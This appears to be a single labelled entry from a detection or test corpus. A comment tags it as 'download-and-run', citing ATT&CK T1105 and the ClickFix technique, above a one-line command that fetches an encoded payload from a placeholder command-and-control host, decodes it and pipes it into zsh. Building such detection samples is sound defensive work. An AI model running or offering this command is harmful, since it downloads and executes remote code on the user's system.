# expect: download-and-run | source: T1105, ClickFix
curl -s https://c2.example.invalid/i | base64 -d | zsh
